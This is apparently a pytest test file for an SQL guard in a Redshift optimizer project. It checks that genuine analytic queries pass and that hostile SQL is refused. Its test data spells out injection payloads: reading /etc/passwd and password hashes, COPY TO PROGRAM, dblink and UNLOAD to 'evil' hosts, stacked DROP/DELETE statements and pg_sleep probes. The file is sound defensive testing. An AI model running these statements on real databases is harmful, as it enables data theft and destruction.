"""The SQL guard on its own: real analytic SQL passes (no false refusals), every hostile form
is refused with its reason, line and column, and the documentation page is the allow-list."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from redshift_optimizer.sql.parsing import SqlInputError, SqlSyntaxError, line_col
from redshift_optimizer.sql_guard import ALLOWED_FUNCTIONS, SqlRefused, allow_list_markdown, guard

ROOT = Path(__file__).resolve().parents[2]
TPCH = sorted((ROOT / "tests" / "fixtures" / "tpch").glob("q*.sql"))


def workload_texts() -> list[tuple[str, str]]:
    """Every demo workload query with every variant's parameters as literals."""
    from local.demo.workload import workload_queries

    def literal(value) -> str:
        return str(value) if isinstance(value, (int, float)) else "'" + str(value).replace("'", "''") + "'"

    return [(f"{q.name}[{i}]", q.sql % {k: literal(v) for k, v in variant.items()})
            for q in workload_queries() for i, variant in enumerate(q.variants)]


def test_the_22_tpch_queries_pass():
    assert len(TPCH) == 22
    for path in TPCH:
        guard(path.read_text(encoding="utf-8"))


@pytest.mark.parametrize("name, sql", workload_texts(), ids=[n for n, _ in workload_texts()])
def test_the_demo_workload_passes(name, sql):
    guard(sql)


CORPUS = sorted((ROOT / "tests" / "corpus").glob("tpc*/queries/*.sql"))


@pytest.mark.parametrize("path", CORPUS, ids=[f"{p.parent.parent.name}/{p.stem}" for p in CORPUS])
def test_the_public_tpc_queries_pass(path):
    """TPC-DS and TPC-H as AWS publishes them for Redshift: every file that is one query
    passes; the few files holding two queries are refused for that reason only."""
    sql = path.read_text(encoding="utf-8")
    try:
        guard(sql)
    except SqlRefused as refused:
        assert refused.message == "2 statements given: exactly one query is run", refused.one_line(path.name)


@pytest.mark.parametrize("sql", [
    "SELECT LISTAGG(n_name, ',') WITHIN GROUP (ORDER BY n_name) FROM tpch.nation",
    "SELECT NVL(a, 0), NVL2(a, 1, 2), DECODE(a, 1, 'x', 'y'), COALESCE(a, b) FROM t",
    "SELECT DATEADD(day, 1, d), DATEDIFF(day, d, e), DATE_TRUNC('month', d), GETDATE(), SYSDATE FROM t",
    "SELECT APPROXIMATE COUNT(DISTINCT a), MEDIAN(b), PERCENTILE_CONT(0.9) WITHIN GROUP (ORDER BY b) FROM t",
    "SELECT ROW_NUMBER() OVER (PARTITION BY a ORDER BY b), RATIO_TO_REPORT(c) OVER () FROM t",
    "SELECT JSON_EXTRACT_PATH_TEXT(j, 'a', 'b'), JSON_PARSE(j), IS_VALID_JSON(j) FROM t",
    "SELECT TOP 10 a FROM t ORDER BY a",
    "SELECT a::VARCHAR(10), CAST(b AS DECIMAL(12, 2)), TO_CHAR(d, 'YYYY-MM'), CONVERT_TIMEZONE('UTC', d) FROM t",
    "WITH x AS (SELECT a FROM t) SELECT * FROM x WHERE a IN (SELECT a FROM x) UNION ALL SELECT 1",
    "SELECT UPPER(a), SPLIT_PART(a, ',', 1), REGEXP_SUBSTR(a, '[0-9]+'), MD5(a), a || b FROM t;",
    "SELECT pg_x.a FROM analytics.sys_orders AS pg_x",  # a user table named like a system prefix
    "SELECT a FROM t GROUP BY ROLLUP (a, b)",
    "SELECT a FROM t QUALIFY ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) = 1",
    "SELECT SUM(a) OVER (ORDER BY b ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM t",
    "SELECT COUNT(*) FILTER (WHERE a > 1), a COLLATE case_insensitive FROM t WHERE a = ANY (SELECT b FROM u)",
    "SELECT a FROM t WHERE a SIMILAR TO 'x%' OR a ~* 'y' OR a ILIKE 'z'",
    "SELECT * FROM t PIVOT (SUM(a) FOR b IN ('x', 'y'))",
    "SELECT CURRENT_TIMESTAMP, TIMEOFDAY(), DATE_PART(year, d), EXTRACT(EPOCH FROM d), d + INTERVAL '1 day' FROM t",
])
def test_real_redshift_forms_pass(sql):
    guard(sql)


# (SQL, a word the refusal names, where it points: the text there, or None)
REFUSED = [
    ("SELECT * FROM tpch.nation WHERE n_nationkey = CAST(pg_read_file('/etc/passwd') AS INT)",
     'pg_read_file', "pg_read_file('/e"),
    ('SELECT n_name FROM tpch.nation WHERE n_nationkey IN (SELECT pg_terminate_backend(12345))',
     'pg_terminate_backend', 'pg_terminate_backend'),
    ("SELECT set_config('statement_timeout', '0', false), n_name FROM tpch.nation",
     'set_config', "set_config('stat"),
    ('WITH gone AS (DELETE FROM tpch.region RETURNING *) SELECT * FROM gone',
     'DELETE', 'tpch.region'),
    ('SELECT * INTO stolen FROM tpch.nation',
     'SELECT INTO', 'stolen'),
    ("COPY tpch.nation TO PROGRAM 'id > /tmp/x'",
     'COPY', None),
    ("SELECT lo_import('/etc/passwd')",
     'lo_import', "lo_import('/etc/"),
    ('SELECT 1; DELETE FROM tpch.region',
     '2 statements', 'DELETE'),
    ('SELECT 1 /* ; */ ;\nDROP TABLE tpch.region',
     '2 statements', 'DROP'),
    ('SELECT 1 -- harmless\n; DROP TABLE tpch.region',
     '2 statements', 'DROP'),
    ('SELECT * FROM tpch.nation WHERE n_regionkey IN (WITH d AS (DELETE FROM tpch.region RETURNING r_regionkey) SELECT r_regionkey FROM d)',
     'DELETE', 'tpch.region'),
    ('SELECT U&"pg\\0073leep"(5)',
     'not on the allow-list', None),
    ('SELECT "PG_SLEEP"(5)',
     'pg_sleep', '"PG_SLEEP"(5)'),
    ('SELECT pg_catalog.pg_sleep(5)',
     'schema-qualified', 'pg_sleep(5)'),
    ('SELECT n_name || pg_sleep(1)::text FROM tpch.nation',
     'pg_sleep', 'pg_sleep(1)::tex'),
    ("SELECT CAST(pg_ls_dir('.') AS INT)",
     'pg_ls_dir', "pg_ls_dir('.')"),
    ("SELECT * FROM pg_ls_dir('.')",
     'pg_ls_dir', "pg_ls_dir('.')"),
    ('SELECT pg_cancel_backend(1)',
     'pg_cancel_backend', 'pg_cancel_backen'),
    ('SELECT pg_reload_conf()',
     'pg_reload_conf', 'pg_reload_conf()'),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
     'dblink', "dblink('host=evi"),
    ("SELECT nextval('s')",
     'nextval', "nextval('s')"),
    ("SELECT setval('s', 1)",
     'setval', "setval('s',"),
    ('SELECT pg_advisory_lock(42)',
     'pg_advisory_lock', 'pg_advisory_lock'),
    ("SELECT current_setting('data_directory')",
     'current_setting', 'current_setting('),
    ("SELECT query_to_xml('DELETE FROM tpch.region', true, true, '')",
     'query_to_xml', "query_to_xml('DE"),
    ('SELECT txid_current()',
     'txid_current', 'txid_current()'),
    ("SELECT pg_notify('channel', 'payload')",
     'pg_notify', "pg_notify('chann"),
    ("SELECT * FROM read_csv('/etc/passwd')",
     'read_csv', "read_csv('/etc/p"),
    ('SELECT n_name FROM tpch.nation ORDER BY pg_sleep(1)',
     'pg_sleep', 'pg_sleep(1)'),
    ('SELECT SUM(n_nationkey) OVER (PARTITION BY pg_sleep(1)) FROM tpch.nation',
     'pg_sleep', 'pg_sleep(1))'),
    ('SELECT my_udf(n_name) FROM tpch.nation',
     'my_udf', 'my_udf(n_name)'),
    ('SELECT analytics.f_mask(n_name) FROM tpch.nation',
     'schema-qualified', 'f_mask(n_name)'),
    ('SELECT * FROM pg_stat_activity',
     'pg_stat_activity', 'pg_stat_activity'),
    ('SELECT rolpassword FROM pg_catalog.pg_authid',
     'pg_catalog.pg_authid', 'pg_catalog.pg_authid'),
    ('SELECT query FROM stl_querytext',
     'stl_querytext', 'stl_querytext'),
    ('SELECT * FROM redshift_system.server_log',
     'redshift_system.server_log', 'redshift_system'),
    ('SELECT * FROM information_schema.tables',
     'information_schema', 'information_schema'),
    ('SELECT n_name FROM tpch.nation FOR UPDATE',
     'LOCK', None),
    ('EXPLAIN ANALYZE DELETE FROM tpch.region',
     'COMMAND', None),
    ("UPDATE tpch.region SET r_name = 'x'",
     'UPDATE', None),
    ('INSERT INTO tpch.region SELECT * FROM tpch.region',
     'INSERT', None),
    ('TRUNCATE tpch.region',
     'TRUNCATE', None),
    ('SET statement_timeout = 0',
     'SET', None),
    ('RESET ALL',
     'COMMAND', None),
    ('BEGIN',
     'TRANSACTION', None),
    ('VACUUM tpch.region',
     'COMMAND', None),
    ('CALL do_things()',
     'COMMAND', None),
    ('GRANT SELECT ON tpch.region TO PUBLIC',
     'GRANT', None),
    ("UNLOAD ('SELECT * FROM tpch.region') TO 's3://evil/x'",
     'COMMAND', None),
    ('CREATE TABLE stolen AS SELECT * FROM tpch.nation',
     'CREATE', None),
]


@pytest.mark.parametrize("sql, word, where", REFUSED, ids=[r[0][:60] for r in REFUSED])
def test_hostile_sql_is_refused_naming_why_and_where(sql, word, where):
    with pytest.raises(SqlInputError) as refused:
        guard(sql)
    error = refused.value
    assert isinstance(error, (SqlRefused, SqlSyntaxError))
    assert word.lower() in error.message.lower(), error.message
    if where is not None:
        assert (error.line, error.col) == line_col(sql, sql.index(where)), error.one_line()


@pytest.mark.parametrize("sql", [
    "SELECT a FROM t WHERE",  # incomplete
    "",  # empty
    "-- only a comment",
])
def test_what_does_not_parse_is_refused_too(sql):
    with pytest.raises(SqlInputError):
        guard(sql)


def test_a_function_is_refused_even_if_sqlglot_knows_it():
    # sqlglot models READ_CSV (DuckDB) and NEXT VALUE FOR: known node types, still not run.
    for sql in ("SELECT * FROM read_csv('/etc/passwd')", "SELECT NEXT VALUE FOR seq"):
        with pytest.raises(SqlInputError):
            guard(sql)


def test_the_allow_list_has_no_function_with_side_effects():
    names = {n for family in ALLOWED_FUNCTIONS.values() for n in family}
    forbidden = {"pg_sleep", "pg_read_file", "pg_terminate_backend", "pg_cancel_backend", "set_config",
                 "current_setting", "nextval", "setval", "lo_import", "lo_export", "dblink", "pg_advisory_lock",
                 "query_to_xml", "pg_notify", "txid_current", "pg_reload_conf", "pg_ls_dir"}
    assert not names & forbidden
    assert all(n == n.lower() and n.isidentifier() for n in names)


def test_the_committed_page_is_generated_from_the_allow_list():
    page = ROOT / "docs" / "sql-guard.md"
    assert page.read_text(encoding="utf-8") == allow_list_markdown()
    done = subprocess.run([sys.executable, "-m", "redshift_optimizer", "sql-guard", "--format", "markdown"],
                          capture_output=True, cwd=ROOT, env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})
    assert done.returncode == 0 and done.stdout.decode() == page.read_text(encoding="utf-8")


def test_the_command_line_checks_files(tmp_path):
    bad = tmp_path / "bad.sql"
    bad.write_text("SELECT 1;\nSELECT pg_sleep(10)")
    done = subprocess.run([sys.executable, "-m", "redshift_optimizer", "sql-guard", str(TPCH[0]), str(bad)],
                          capture_output=True, cwd=ROOT, env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})
    assert done.returncode == 1
    out = done.stdout.decode().splitlines()
    assert out[0].endswith("q01.sql: allowed")
    assert out[1] == f"{bad}:2:1: 2 statements given: exactly one query is run"
